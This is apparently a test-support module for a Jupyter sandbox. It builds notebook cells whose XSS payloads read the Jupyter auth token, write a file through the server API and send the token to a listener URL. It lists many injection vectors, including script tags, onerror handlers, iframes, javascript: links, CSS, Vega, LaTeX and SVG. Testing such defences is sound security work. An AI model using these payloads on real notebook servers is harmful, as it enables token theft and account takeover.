"""Cells that attack the reader's browser; the same source runs in ipykernel and in Hypercell.

``@URL@`` becomes the listener's address. A payload that runs on Jupyter's origin reads the token
out of the page, writes a file through the server's API, and calls the listener: ``/NAME`` is asked
for if anything of NAME got out at all, ``/pwn-NAME`` if its script read the token.
"""

from __future__ import annotations

import json

_SCRIPT = """
(async () => {
  new Image().src = '@URL@/@NAME@?ran';
  const page = document.getElementById('jupyter-config-data');
  const token = JSON.parse(page.textContent).token;
  const xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
  await fetch('/api/contents/written-@NAME@.txt', {method: 'PUT', body: JSON.stringify(
    {type: 'file', format: 'text', content: 'x'}), headers: {Authorization: 'token ' + token,
    'X-XSRFToken': xsrf}});
  new Image().src = '@URL@/pwn-@NAME@?' + token;
})()
"""
# In a frame with the page's origin: take the page's document for one's own.
_PARENT = "document.getElementById = id => parent.document.getElementById(id);"
_PRELUDE = "from IPython.display import *\n"


def script(name: str) -> str:
    """JavaScript of an attack, on one line and without double quotes."""
    return " ".join(_SCRIPT.replace("@NAME@", name).split())


def _html(text: str) -> str:
    return f"{_PRELUDE}display(HTML(r'''{text}'''))"


def _raw(data: dict[str, object], metadata: object = None) -> str:
    text = json.dumps([data, metadata or {}])
    return (
        f"{_PRELUDE}import json\ndata, metadata = json.loads(r'''{text}''')\n"
        "display(data, metadata=metadata, raw=True)"
    )


def _markup(name: str, text: str) -> str:
    return text.replace("JS", script(name)).replace("HERE", f"@URL@/{name}")


# Run a script on Jupyter's origin as soon as they are shown.
SCRIPTS = {
    "script": _html("<script>JS</script>"),
    "onerror": _html('<img src=x onerror="JS">'),
    "svg-in-html": _html("<svg><script>JS</script></svg>"),
    "srcdoc": _html(f'<iframe srcdoc="<script>{_PARENT}JS</script>"></iframe>'),
    "same-origin": _html(
        '<iframe sandbox="allow-scripts allow-same-origin" '
        f'srcdoc="<script>{_PARENT}JS</script>"></iframe>'
    ),
    "toggle": _html('<details open ontoggle="JS"><summary>x</summary></details>'),
    "isolated": _raw(
        {"text/html": f"<script>{_PARENT}JS</script>", "text/plain": "p"},
        {"text/html": {"isolated": True}},
    ),
    "javascript": _raw({"application/javascript": "JS", "text/plain": "p"}),
    "markdown": f"{_PRELUDE}display(Markdown('''<img src=x onerror=\"JS\">'''))",
    "repr-html": (
        "class A:\n    def _repr_html_(self):\n        return '''<script>JS</script>'''\nA()"
    ),
    "repr-bundle": (
        "class A:\n    def _repr_mimebundle_(self, **_):\n"
        "        return {'text/html': '''<script>JS</script>''', 'text/plain': 'p'}\nA()"
    ),
    "updated": (
        f"{_PRELUDE}own = display(HTML('x'), display_id='own')\n"
        "update_display(HTML('''<script>JS</script>'''), display_id='own')"
    ),
}
# Do it when somebody clicks.
CLICKS = {
    "link": _html('<a target=_self href="javascript:JS">click</a>'),
    "form": _html('<form action="javascript:JS"><button>click</button></form>'),
    "svg-link": _html(
        '<svg width=90 height=20><a href="javascript:JS"><text y=15>t</text></a></svg>'
    ),
    "onclick": _html('<b onclick="JS">click</b>'),
}
# Call the listener without a script on Jupyter's origin.
REQUESTS = {
    "picture": _html("<img src=HERE>"),
    "css": _html("<p style='background:url(HERE)'>x</p>"),
    "css-escape": _html("<p style='background:u\\72l(HERE)'>x</p>"),
    "style-sheet": _html("<style>p { background: url(HERE) }</style><p>x</p>"),
    "link-sheet": _html("<link rel=stylesheet href=HERE>"),
    "poster": _html("<video poster=HERE></video>"),
    "audio": _html("<audio src=HERE autoplay></audio>"),
    "srcset": _html("<img srcset='HERE 1x'>"),
    "object": _html("<object data=HERE></object>"),
    "frame": _html("<iframe src=HERE></iframe>"),
    "opaque": _html('<iframe sandbox=allow-scripts srcdoc="<script>JS</script>"></iframe>'),
    "data-frame": _html('<iframe src="data:text/html,<script>JS</script>"></iframe>'),
    "markdown-picture": f"{_PRELUDE}display(Markdown('![x](HERE)'))",
    "vega": _raw(
        {
            "application/vnd.vega.v5+json": {
                "$schema": "https://vega.github.io/schema/vega/v5.json",
                "width": 9,
                "height": 9,
                "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "HERE"}}}}],
            },
            "text/plain": "p",
        }
    ),
}
# What no unprotected kernel does either, since front ends escape it: shown to be live as HTML.
TEXTS = {
    "plain": "print('''<img src=x onerror=\"JS\">''')",
    "error": "raise ValueError('''<img src=x onerror=\"JS\">''')",
    "error-name": "raise type('''<img src=x onerror=\"JS\">''', (Exception,), {})('x')",
    "stderr": "import sys; print('''<img src=x onerror=\"JS\">''', file=sys.stderr)",
    "repr": (
        "class A:\n    def __repr__(self):\n        return '''<img src=x onerror=\"JS\">'''\nA()"
    ),
    "json": _raw({"application/json": {"<img src=x onerror=JS>": "<img src=x onerror=JS>"}}),
    "svg-picture": (
        f'{_PRELUDE}display(SVG(\'\'\'<svg xmlns="http://www.w3.org/2000/svg" onload="JS">'
        '<image href="HERE"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="HERE"/>'
        "</foreignObject><script>JS</script></svg>'''))"
    ),
    "latex": (
        f"{_PRELUDE}display(Latex(r'''$\\href{{javascript:JS}}{{x}}"
        " \\style{background:url(HERE)}{x}$'''))"
    ),
    "latex-html": f"{_PRELUDE}display(Latex('''<img src=x onerror=\"JS\">'''))",
}
ALL = {**SCRIPTS, **CLICKS, **REQUESTS, **TEXTS}
_KINDS = """
script onerror srcdoc isolated javascript markdown updated link form picture css vega plain error
json svg-picture latex
"""
OF_EACH_KIND = _KINDS.split()


def cell(name: str, url: str) -> str:
    """The source of an attack."""
    return _markup(name, ALL[name]).replace("@URL@", url)


def as_html(name: str, url: str) -> str:
    """What ``TEXTS`` would be if it were taken for HTML."""
    return f'<img src=x onerror="{script(name)}">'.replace("@URL@", url)
